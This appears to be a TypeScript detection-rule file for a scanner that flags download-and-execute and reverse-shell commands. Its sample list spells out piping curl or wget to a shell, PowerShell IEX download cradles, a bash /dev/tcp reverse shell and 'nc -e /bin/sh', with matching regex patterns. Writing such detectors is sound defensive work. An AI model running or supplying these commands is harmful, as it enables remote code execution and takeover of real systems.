/** Shells that run what comes over the network. */

import { type Action, argumentsUpTo, commandUpTo, end, space } from './phrasing.js'

export const shellActions: readonly Action[] = [
  {
    id: 'action.pipe-to-shell',
    summary: 'it runs what it downloads',
    severity: 'high',
    finds: 'A download that is handed to a shell or an interpreter without a look at it, and shells that call out.',
    hits: [
      'curl -fsSL https://x.example/i.sh | sh',
      'wget -qO- https://x.example | sudo bash',
      'bash <(curl -s https://x.example)',
      'sh -c "$(curl -fsSL https://x.example/i.sh)"',
      "IEX (New-Object Net.WebClient).DownloadString('https://x.example')",
      'iwr https://x.example | iex',
      'powershell -nop -enc SQBFAFgA',
      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      'nc -e /bin/sh 192.0.2.1 4444',
    ],
    misses: ['curl https://x.example | jq .', 'wget https://x.example', 'the shell', 'bash -c "ls"', 'nc -l 80'],
    starts: [
      'curl ',
      'wget ',
      'bash ',
      'zsh ',
      'sh ',
      'iex ',
      'iex(',
      'invoke-expression',
      'iwr ',
      'invoke-webrequest',
      'powershell',
      'pwsh',
      'nc ',
      'ncat ',
    ],
    phrases: [
      `(?:curl|wget)${space}${commandUpTo(200)}\\|\\s{0,4}(?:sudo${space}(?:-[a-z]{1,4}${space})?)?(?:env${space})?(?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh${end}`,
      `(?:curl|wget)${space}${commandUpTo(200)}\\|\\s{0,4}(?:sudo${space})?(?:python[23]?|perl|ruby|node|php)${end}`,
      `(?:ba|z)?sh${space}<\\(\\s{0,4}(?:curl|wget)${end}`,
      `(?:ba|z)?sh${space}-c${space}["'\`]?\\$?[(\`]\\s{0,4}(?:curl|wget)${end}`,
      `(?:iex|invoke-expression)[\\s(]{1,4}${commandUpTo(80)}(?:downloadstring|invoke-webrequest|iwr)`,
      `(?:iwr|invoke-webrequest)${space}${commandUpTo(200)}\\|\\s{0,4}(?:iex|invoke-expression)${end}`,
      `(?:powershell|pwsh)(?:\\.exe)?${space}${argumentsUpTo(4)}-e(?:nc|ncodedcommand)?${space}[a-z0-9+/=]{8}`,
      `(?:ba)?sh${space}-i${space}>&\\s{0,4}/dev/(?:tcp|udp)/`,
      `(?:nc|ncat)${space}${argumentsUpTo(4)}-[a-z]{0,4}e${space}(?:/|cmd|powershell)`,
    ],
  },
]
